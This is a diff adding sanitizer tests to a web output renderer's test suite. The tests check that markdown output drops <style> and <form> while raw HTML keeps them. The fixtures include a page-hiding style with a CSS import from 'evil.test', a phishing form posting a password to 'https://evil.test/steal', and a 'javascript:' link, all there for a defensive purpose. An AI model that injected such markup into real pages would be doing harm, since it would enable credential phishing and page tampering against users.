@@ -72,6 +72,29 @@ describe('output', () => {
     expect((window as any).__jpsRan).toBeUndefined();
   });
 
+  it('drops <style> and <form> from markdown, keeping the fields and text inside a form', () => {
+    page.deliver(output({ type: 'markdown', content: [
+      'Styled <span style="color: red">red</span>',
+      '',
+      '<style>body { display: none } @import url("https://evil.test/x.css");</style>',
+      '',
+      '<form action="https://evil.test/steal" method="post"><input name="password"> Sign in</form>'
+    ].join('\n') }));
+    const shown = scope(page, 'ROOT')!.querySelector('.jps-markdown')!;
+    expect(page.el.querySelector('style, form')).toBeNull(); // nothing restyles the page or posts elsewhere
+    expect(shown.textContent).not.toContain('display: none'); // a style's rules are not left as text
+    expect(shown.querySelector('input[name="password"]')).not.toBeNull(); // a field alone submits nowhere
+    expect(shown.textContent).toContain('Sign in');
+    expect(shown.querySelector('span')?.getAttribute('style')).toBe('color: red'); // inline styles stay
+  });
+
+  it('keeps <style> and <form> in put_html, which is raw HTML as in PyWebIO', () => {
+    page.deliver(output({ type: 'html', content: '<style>.x { color: red }</style><form><input name="q"></form>' }));
+    const shown = scope(page, 'ROOT')!.querySelector('.jps-html')!;
+    expect(shown.querySelector('style')).not.toBeNull();
+    expect(shown.querySelector('form input[name="q"]')).not.toBeNull();
+  });
+
   it('sanitizes html when asked', () => {
     page.deliver(output({ type: 'html', content: '<i>ok</i><a href="javascript:alert(1)" onclick="x()">l</a>',
       sanitize: true }));
